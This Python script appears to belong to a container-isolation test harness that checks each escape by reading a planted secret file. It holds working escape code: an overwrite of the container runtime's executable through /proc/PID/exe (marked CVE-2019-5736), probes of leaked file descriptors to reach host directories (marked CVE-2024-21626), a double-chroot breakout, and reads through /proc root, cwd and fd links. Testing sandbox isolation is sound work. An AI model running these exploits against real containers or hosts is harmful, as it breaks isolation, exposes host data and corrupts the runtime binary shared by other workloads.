"""Leaked descriptors, magic links and the runtime's own executable.

usage: descriptors.py LOOT SECRET [PID...]: without process numbers, every process is attacked whose executable cannot
be told or is not a file of this system.
"""

import os
import sys
import time

from attack import add, attempt, main

LOOT, SECRET = sys.argv[1:3]
OWN_FDS = range(3, 256)


def runtime_pids():
    if len(sys.argv) > 3:
        return sys.argv[3:]
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/exe").startswith(("/memfd:", "/dev/.envd")):
                found.append(pid)
        except PermissionError:
            found.append(pid)
        except OSError:
            continue
    return found


def read_loot(path):
    with open(path) as file:
        return path if file.read() == SECRET else None


def first(paths):
    """The first path that shows the loot; the last error when there is none."""
    last = None
    for path in paths:
        try:
            if read_loot(path):
                return path
        except OSError as error:
            last = error
    if last:
        raise last
    return None


@attempt("overwrite the runtime's executable")
def overwrite():
    """CVE-2019-5736: keep a handle of the executable, write once nobody runs it."""
    last = None
    for pid in runtime_pids():
        try:
            handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
            return write_through(handle)
        except OSError as error:
            last = error
    if last:
        raise last
    return None


def write_through(handle):
    deadline = time.monotonic() + 3
    while True:
        try:
            into = os.open(f"/proc/self/fd/{handle}", os.O_WRONLY)
            os.pwrite(into, b"owned", 0)
            return "written"
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.01)


@attempt("reach the host through descriptors that were left open")
def leaked():
    """CVE-2024-21626: a directory of the host that stays open is a way out."""
    return first(f"/proc/self/fd/{fd}{up}{LOOT}" for fd in OWN_FDS if os.path.isdir(f"/proc/self/fd/{fd}") for up in ("", "/../../../../../../.."))


@attempt("reach the host from a left-open directory with ..")
def leaked_relative():
    for fd in OWN_FDS:
        try:
            with open(os.open("../../../../../../../.." + LOOT, os.O_RDONLY, dir_fd=fd)) as file:
                if file.read() == SECRET:
                    return fd
        except OSError:
            continue
    return None


@attempt("reach the host from the working directory")
def working_directory():
    return first("/".join([".."] * n) + LOOT for n in range(1, 12))


@attempt("leave a chroot")
def leave_chroot():
    """The classical way: a directory below the new root, and the old one still as working directory."""
    inner = f"/tmp/escape-chroot-{os.getpid()}"
    os.makedirs(inner)
    os.chroot(inner)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read_loot(LOOT)


def magic(link):
    def run():
        return first(f"/proc/{pid}/{link.replace('PID', pid)}{LOOT}" for pid in (runtime_pids() or ["1"]))

    return run


for link in ("root", "cwd", "task/PID/root"):
    add(f"read through /proc/PID/{link}", magic(link))


@attempt("read through /proc/PID/fd")
def process_descriptors():
    paths, last = [], None
    for pid in runtime_pids() or ["1"]:
        try:
            paths += [f"/proc/{pid}/fd/{fd}{LOOT}" for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError as error:
            last = error
    if not paths and last:
        raise last
    return first(paths)


main()
